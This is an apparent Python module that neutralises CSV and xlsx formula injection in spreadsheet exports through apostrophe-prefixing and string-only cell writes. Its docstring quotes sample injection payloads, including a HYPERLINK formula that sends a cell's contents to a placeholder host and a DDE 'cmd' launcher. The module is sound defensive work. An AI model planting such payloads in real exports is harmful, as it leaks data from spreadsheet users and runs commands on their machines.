"""Cells that spreadsheets never run as formulas, whatever the data says.

A person's name, a note or an imported value may start with ``=``, ``+``, ``-``, ``@`` or a tab
(``=HYPERLINK("http://x/?"&A1,"click")``, ``+cmd|' /C calc'!A0``, ``@SUM(1+1)``, ``-2+3``). Excel,
WPS and LibreOffice evaluate such cells of a CSV file, and xlsxwriter's ``write()`` turns a string
starting with ``=`` into a formula. Every export writes through these helpers instead:

- :func:`csv_text` prefixes such text with an apostrophe, the convention spreadsheets read as
  "this is text" (OWASP's advice for CSV injection); numbers stay numbers;
- :func:`workbook` opens an xlsxwriter workbook that never converts strings to formulas or
  numbers, and :func:`write_cell` writes text with ``write_string`` and numbers with
  ``write_number`` — a text cell in an .xlsx file is never evaluated.
"""

from __future__ import annotations

from decimal import Decimal
from typing import IO, Any

import xlsxwriter

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20")


def csv_text(value: Any) -> Any:
    """``value`` as a CSV field that no spreadsheet evaluates (numbers unchanged)."""
    if value is None:
        return ""
    if isinstance(value, (bool, int, float, Decimal)):
        return value
    text = str(value)
    return "'" + text if text.startswith(FORMULA_STARTS) else text


def csv_row(values: list[Any]) -> list[Any]:
    return [csv_text(v) for v in values]


def workbook(target: IO[bytes] | str) -> xlsxwriter.Workbook:
    """An in-memory workbook whose ``write()`` never makes formulas or numbers from text."""
    return xlsxwriter.Workbook(
        target,
        {"in_memory": True, "strings_to_formulas": False, "strings_to_numbers": False},
    )


def write_cell(ws: Any, row: int, col: int, value: Any, fmt: Any = None) -> None:
    """Text as text (``write_string``), numbers as numbers, nothing as a blank cell."""
    if value is None or value == "":
        ws.write_blank(row, col, None, fmt)
    elif isinstance(value, bool):
        ws.write_boolean(row, col, value, fmt)
    elif isinstance(value, (int, float, Decimal)):
        ws.write_number(row, col, float(value), fmt)
    else:
        ws.write_string(row, col, str(value), fmt)


class FigureCells:
    """Figures written as numbers in their unit's number format (csperf.scoring.figures):
    a ratio as 0.9899 shown ``0.00%``, money ``#,##0.00``, a score rounded to 2 decimals
    ``0.00``; counts by kind and other text as text. One format object per number format."""

    def __init__(self, wb: xlsxwriter.Workbook, base: dict[str, Any] | None = None) -> None:
        self.wb = wb
        self.base = base or {}
        self._formats: dict[str, Any] = {}

    def format(self, num_format: str) -> Any:
        if num_format not in self._formats:
            self._formats[num_format] = self.wb.add_format({**self.base, "num_format": num_format})
        return self._formats[num_format]

    def write(self, ws: Any, row: int, col: int, value: Any, unit: str | None = None) -> None:
        from csperf.scoring import figures

        number = figures.cell_number(value, unit) if not isinstance(value, dict) else None
        if number is None or isinstance(value, str):
            shown = figures.figure(value, unit) if value not in (None, "") else None
            write_cell(ws, row, col, shown, self.format("@") if shown else None)
            return
        ws.write_number(row, col, number, self.format(figures.xlsx_format(unit)))
